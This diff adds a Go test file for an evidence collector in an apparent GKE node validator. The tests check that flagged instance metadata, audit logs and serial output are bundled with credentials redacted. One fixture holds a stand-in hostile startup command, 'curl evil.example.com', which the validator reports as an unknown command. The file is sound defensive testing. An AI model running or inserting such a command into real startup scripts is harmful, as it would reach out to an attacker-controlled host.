@@ -0,0 +1,166 @@
+package evidence
+
+import (
+	"context"
+	"encoding/json"
+	"errors"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+	"time"
+
+	compute "cloud.google.com/go/compute/apiv1"
+	"cloud.google.com/go/compute/apiv1/computepb"
+	"github.com/castai/gcp-node-validator/container/enforce"
+	"github.com/castai/gcp-node-validator/container/validate"
+	"github.com/samber/lo"
+	"github.com/stretchr/testify/require"
+	"google.golang.org/api/option"
+)
+
+func TestCollectorCapture(t *testing.T) {
+	t.Parallel()
+	r := require.New(t)
+	ctx := context.Background()
+
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if !strings.HasSuffix(r.URL.Path, "/instances/gke-cluster-pool-1234abcd-x1y2/serialPort") {
+			http.NotFound(w, r)
+			return
+		}
+		_, _ = w.Write([]byte(`{"contents": "Booting..."}`))
+	}))
+	defer srv.Close()
+
+	computeClient, err := compute.NewInstancesRESTClient(ctx, option.WithEndpoint(srv.URL), option.WithoutAuthentication())
+	r.NoError(err)
+	defer computeClient.Close()
+
+	objects := map[string][]byte{}
+	capturedAt := time.Date(2025, 2, 1, 10, 0, 0, 0, time.UTC)
+	c := &Collector{
+		computeClient: computeClient,
+		bucket:        "evidence",
+		writeObject: func(_ context.Context, name string, data []byte) error {
+			objects[name] = data
+			return nil
+		},
+		now: func() time.Time { return capturedAt },
+	}
+
+	target := &enforce.Target{
+		Project: "p",
+		Zone:    "z",
+		Instance: &computepb.Instance{
+			Id:   lo.ToPtr[uint64](42),
+			Name: lo.ToPtr("gke-cluster-pool-1234abcd-x1y2"),
+			Metadata: &computepb.Metadata{
+				Items: []*computepb.Items{
+					{Key: lo.ToPtr("user-data"), Value: lo.ToPtr("echo 'foo bar'\ncurl evil.example.com")},
+					{Key: lo.ToPtr("configure-sh"), Value: lo.ToPtr(`CASTAI_API_URL="https://api.cast.ai"` + "\n" + `CASTAI_API_KEY="secret"` + "\n" +
+						`curl -H "X-Api-Key: secret" https://api.cast.ai/v1/kubernetes/external-clusters/c1/nodes/n1/logs`)},
+				},
+			},
+		},
+	}
+	validationErr := errors.Join(
+		&validate.PrincipalError{Principal: "someone@example.com"},
+		&validate.ValidationError{
+			MetadataKey:        "user-data",
+			UnknownCommands:    "\ncurl evil.example.com",
+			MatchedWhitelist:   []string{"echo 'foo bar'"},
+			UnmatchedWhitelist: []string{"echo 'hello world'"},
+		},
+	)
+
+	auditLog := `{"insertId": "1", "protoPayload": {"request": {"metadata": {"items": [{"key": "configure-sh", "value": "CASTAI_API_KEY=\"secret\""}]}}, "apiKey": "secret"}}`
+	location, err := c.Capture(ctx, target, validationErr, []byte(auditLog))
+	r.NoError(err)
+	r.Equal("gs://evidence/p/z/gke-cluster-pool-1234abcd-x1y2/42-20250201T100000Z.json", location)
+
+	var bundle Bundle
+	r.NoError(json.Unmarshal(objects["p/z/gke-cluster-pool-1234abcd-x1y2/42-20250201T100000Z.json"], &bundle))
+	r.Equal(bundleVersion, bundle.Version)
+	r.Equal("Booting...", bundle.SerialPortOutput)
+	r.Equal(map[string]string{
+		"user-data": "echo 'foo bar'\ncurl evil.example.com",
+		"configure-sh": `CASTAI_API_URL="https://api.cast.ai"` + "\n" + `CASTAI_API_KEY=****` + "\n" +
+			`curl -H "X-Api-Key: ****" https://api.cast.ai/v1/kubernetes/external-clusters/c1/nodes/n1/logs`,
+	}, bundle.Metadata, "only credentials are redacted")
+	r.Equal("user-data", bundle.MetadataKey)
+	r.Equal("\ncurl evil.example.com", bundle.UnknownCommands)
+	r.Equal([]string{"echo 'foo bar'"}, bundle.MatchedWhitelist)
+	r.Equal([]string{"echo 'hello world'"}, bundle.UnmatchedWhitelist)
+	r.Equal("someone@example.com", lo.FromPtr(bundle.UnexpectedPrincipal))
+	r.JSONEq(`{"insertId": "1", "protoPayload": {"request": {"metadata": {"items": [{"key": "configure-sh", "value": "CASTAI_API_KEY=****"}]}}, "apiKey": "****"}}`, string(bundle.AuditLog))
+	r.NotContains(string(objects["p/z/gke-cluster-pool-1234abcd-x1y2/42-20250201T100000Z.json"]), "secret", "credentials must be redacted")
+
+	var instance map[string]any
+	r.NoError(json.Unmarshal(bundle.Instance, &instance))
+	r.Equal("gke-cluster-pool-1234abcd-x1y2", instance["name"])
+}
+
+func TestCollectorCaptureFailedSnapshot(t *testing.T) {
+	t.Parallel()
+	r := require.New(t)
+	ctx := context.Background()
+
+	// The snapshot operation completes with an error, e.g. when the snapshot quota is exceeded.
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch {
+		case strings.HasSuffix(r.URL.Path, "/serialPort"):
+			_, _ = w.Write([]byte(`{"contents": "Booting..."}`))
+		case strings.HasSuffix(r.URL.Path, "/disks/boot-disk/createSnapshot"), strings.HasSuffix(r.URL.Path, "/operations/operation-1"):
+			_, _ = w.Write([]byte(`{"name": "operation-1", "status": "DONE", "error": {"errors": [{"code": "QUOTA_EXCEEDED", "message": "Quota 'SNAPSHOTS' exceeded."}]}}`))
+		default:
+			http.NotFound(w, r)
+		}
+	}))
+	defer srv.Close()
+
+	computeClient, err := compute.NewInstancesRESTClient(ctx, option.WithEndpoint(srv.URL), option.WithoutAuthentication())
+	r.NoError(err)
+	defer computeClient.Close()
+	disksClient, err := compute.NewDisksRESTClient(ctx, option.WithEndpoint(srv.URL), option.WithoutAuthentication())
+	r.NoError(err)
+	defer disksClient.Close()
+
+	objects := map[string][]byte{}
+	c := &Collector{
+		computeClient: computeClient,
+		disksClient:   disksClient,
+		bucket:        "evidence",
+		writeObject: func(_ context.Context, name string, data []byte) error {
+			objects[name] = data
+			return nil
+		},
+		now: time.Now,
+	}
+
+	target := &enforce.Target{
+		Project: "p",
+		Zone:    "z",
+		Instance: &computepb.Instance{
+			Id:    lo.ToPtr[uint64](42),
+			Name:  lo.ToPtr("gke-cluster-pool-1234abcd-x1y2"),
+			Disks: []*computepb.AttachedDisk{{Boot: lo.ToPtr(true), Source: lo.ToPtr("projects/p/zones/z/disks/boot-disk")}},
+		},
+	}
+
+	_, err = c.Capture(ctx, target, &validate.ValidationError{}, nil)
+	r.ErrorContains(err, "failed to snapshot boot disk: operation operation-1 failed: QUOTA_EXCEEDED: Quota 'SNAPSHOTS' exceeded.")
+	r.Empty(objects)
+}
+
+func TestSnapshotName(t *testing.T) {
+	t.Parallel()
+	r := require.New(t)
+	at := time.Unix(1738404000, 0)
+
+	r.Equal("gke-cluster-pool-1234abcd-x1y2-evidence-1738404000", snapshotName("gke-cluster-pool-1234abcd-x1y2", at))
+
+	long := snapshotName(strings.Repeat("a", 70), at)
+	r.Len(long, 63)
+	r.True(strings.HasSuffix(long, "-evidence-1738404000"))
+}